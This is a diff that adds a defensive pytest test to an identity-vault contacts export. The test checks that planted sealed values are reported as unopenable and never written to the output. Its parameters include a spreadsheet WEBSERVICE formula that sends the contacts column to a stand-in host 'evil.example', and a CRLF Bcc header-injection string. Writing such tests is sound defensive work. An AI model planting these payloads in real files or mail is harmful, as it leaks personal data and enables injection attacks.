@@ -393,6 +393,26 @@ def test_a_sealed_value_the_key_cannot_open_is_reported_unopenable(store, audit,
     assert ("1", victim, "unopenable") in {tuple(r) for r in rows(unresolved_path(tmp_path / "contacts.csv"))}
 
 
+@pytest.mark.parametrize("planted", [
+    '=WEBSERVICE("https://evil.example/x?d="&ENCODEURL(TEXTJOIN(";",TRUE,B2:B100000)))',
+    "+1@example.org", "-x@example.org", "Someone@Example.org", "not an address", "a@b.org\r\nBcc: c@d.org"])
+def test_a_sealed_value_that_is_no_vault_address_is_never_written(store, audit, people, listing, tmp_path, keys_dir,
+                                                                    planted):
+    """Anyone who can write the store holds the DPO's public key too: a value the vault never sealed (a spreadsheet
+    formula that would send the whole contacts file elsewhere, a header injection) is reported unopenable."""
+    from identity.keys.files import load_dpo_public_key
+    from identity.sealing import Sealer
+    from identity.vault import IDENTITIES
+    victim = people.order[0]
+    store.update(IDENTITIES, {"pseudonym": victim},
+                 {"sealed_email": Sealer(load_dpo_public_key(keys_dir / "dpo_public.pem")).seal(planted.encode())})
+    summary = resolve_pseudonyms(store, audit, params(tmp_path, keys_dir, listing))
+    assert summary.counts["unopenable"] == 1 and summary.counts["resolved"] == 10
+    written = (tmp_path / "contacts.csv").read_text()
+    assert victim not in written and planted not in written
+    assert ("1", victim, "unopenable") in {tuple(r) for r in rows(unresolved_path(tmp_path / "contacts.csv"))}
+
+
 def test_a_completed_run_is_not_reopened_by_editing_its_state(store, audit, listing, tmp_path, keys_dir, monkeypatch):
     p = params(tmp_path, keys_dir, listing)
     assert p.out is not None
